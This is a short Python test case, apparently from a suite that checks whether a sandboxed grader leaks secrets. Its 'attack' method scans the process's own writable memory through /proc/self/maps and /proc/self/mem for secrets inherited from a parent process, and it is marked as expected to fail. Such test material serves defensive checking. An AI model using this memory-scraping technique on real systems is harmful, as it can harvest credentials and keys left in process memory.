"""T08 T66. Searches all of its own memory for what whoever it was forked from knew.

expected: wrong
"""
from kit import Empty, secrets_in
class Solution(Empty):
    def attack(self):
        with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
            for line in maps:
                if " rw" not in line or "[v" in line:
                    continue
                begin, end = (int(part, 16) for part in line.split()[0].split("-"))
                for at in range(begin, end, 1 << 22):
                    memory.seek(at)
                    try:
                        secrets_in(memory.read(min(1 << 22, end - at)))
                    except OSError:
                        continue
